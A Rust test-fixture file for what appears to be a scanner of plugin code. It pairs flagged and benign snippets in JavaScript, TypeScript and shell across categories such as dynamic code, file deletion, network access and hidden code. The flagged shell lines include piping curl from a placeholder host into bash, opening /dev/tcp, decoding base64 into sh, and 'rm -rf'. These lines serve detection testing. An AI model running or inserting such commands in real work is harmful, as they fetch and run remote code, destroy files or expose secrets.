//! Fixtures for JavaScript, TypeScript and shell.

use super::fixtures::Pair;

pub(super) const JAVASCRIPT: &[Pair<'_>] = &[
    (
        "runs-programs",
        "a.js",
        "const cp = require('child_process');\ncp.exec('ls');\n",
        "const re = /a/;\nre.exec('ls');\n",
    ),
    (
        "dynamic-code",
        "a.js",
        "new Function('return 1')();\n",
        "class Function2 {}\nnew Function2();\nf(function() {});\n",
    ),
    ("dynamic-code", "a.mjs", "setTimeout('x()', 1);\n", "setTimeout(() => x(), 1);\n"),
    ("dynamic-import", "a.mjs", "await import(name);\n", "await import('./lib.mjs');\n"),
    (
        "assembled-name",
        "a.js",
        "globalThis['ev' + 'al']('x');\n",
        "globalThis['JSON'].parse(x);\nlist['a' + 'b'];\n",
    ),
    ("reflection", "a.js", "[].constructor.constructor('return 1')();\n", "new this.constructor(1);\n"),
    ("deletes-files", "a.js", "import { rm } from 'node:fs/promises';\nawait rm('x');\n", "items.rm('x');\n"),
    ("network-client", "a.js", "await fetch(url);\n", "function fetch(u) {}\nfetch(url);\n"),
    ("network-server", "a.js", "import http from 'http';\nhttp.createServer(f);\n", "app.createServer(f);\n"),
    ("reads-environment", "a.js", "process.env.HOME;\n", "process.env.RINGFENCE_PLUGIN;\nprocess.argv;\n"),
    ("native-code", "a.js", "require('./build/addon.node');\n", "require('./build/addon.js');\n"),
    ("hidden-code", "a.js", "eval(atob('eA=='));\n", "atob('eA==');\neval(x);\n"),
    ("packed-names", "a.js", "_0x1a2b(_0x3c4d,_0x5e6f,_0x7a8b,_0x9c0d);\n", "a_0x1(0x1a2b, 0x3c4d);\n"),
];

pub(super) const TYPESCRIPT: &[Pair<'_>] = &[
    (
        "runs-programs",
        "a.ts",
        "import cp = require('child_process');\ncp.exec('ls');\n",
        "let m: RegExp = /a/;\nm.exec('ls');\n",
    ),
    ("dynamic-code", "a.ts", "const x: any = eval(y);\n", "let f: Function = g;\n"),
    ("dynamic-code", "a.tsx", "const a = <b c={eval(d)} />;\n", "const a = <b c={d} />;\n"),
    (
        "dynamic-import",
        "a.ts",
        "const m = await import(name as string);\n",
        "import type { A } from './a';\n",
    ),
    ("assembled-name", "a.ts", "(process as any)['bin' + 'ding']('x');\n", "const p = process as any;\n"),
    (
        "reflection",
        "a.ts",
        "(f as any).constructor.constructor('x');\n",
        "class A { constructor(x: string) {} }\n",
    ),
    (
        "deletes-files",
        "a.ts",
        "import * as fs from 'fs';\nfs.unlinkSync!(x);\n",
        "import * as fs from 'fs';\nfs.readFileSync(x);\n",
    ),
    (
        "network-client",
        "a.ts",
        "import https from 'node:https';\nhttps.get(u);\n",
        "interface A { fetch(): void }\n",
    ),
    (
        "network-server",
        "a.ts",
        "import { createServer as s } from 'net';\ns(f);\n",
        "import { isIP } from 'net';\nisIP(x);\n",
    ),
    ("reads-environment", "a.ts", "const { TOKEN } = process.env;\n", "const { pid } = process;\n"),
    ("native-code", "a.ts", "process.dlopen(m, 'x');\n", "window.open('x');\n"),
    (
        "hidden-code",
        "a.ts",
        "const c: string = atob(x);\neval(c);\n",
        "const c: string = atob(x);\neval(d);\n",
    ),
    ("packed-names", "a.ts", "_0x1a2b(_0x3c4d,_0x5e6f,_0x7a8b,_0x9c0d);\n", "_0x1a2b(_0x1a2b, _0x1a2b);\n"),
];

pub(super) const SHELL: &[Pair<'_>] = &[
    ("runs-programs", "a.sh", "ls -l\n", "f() { echo a; }\nf\nprintf x\nread line\n"),
    ("dynamic-code", "a.sh", "eval \"$x\"\n", "echo eval\nprintf '%s' \"$x\"\n"),
    ("dynamic-code", "b.sh", "curl -s https://a.example | bash\n", "cat x | sort\n"),
    ("assembled-name", "a.sh", "r\\m -rf x\n", "rm -rf x\n"),
    ("deletes-files", "a.sh", "sudo -n rm -rf x\n", "echo rm\ncp a b\n"),
    ("deletes-files", "b.sh", "find . -name x -delete\n", "find . -name x\n"),
    ("network-client", "a.sh", "exec 3<>/dev/tcp/a.example/80\n", "cat </dev/null\n"),
    ("network-client", "b.sh", "C=curl\n$C http://a.example\n", "C=curl\necho $C\n"),
    ("network-server", "a.sh", "nc -lp 8080\n", "nc a.example 80\n"),
    (
        "reads-environment",
        "a.sh",
        "echo $AWS_REGION ${TOKEN:-x}\n",
        "A=1\necho $A $1 $path ${#x} $RANDOM $RINGFENCE_PLUGIN\n",
    ),
    ("hidden-code", "a.sh", "echo aGk= | base64 -d | sh\n", "echo aGk= | base64 -d > x\n"),
];
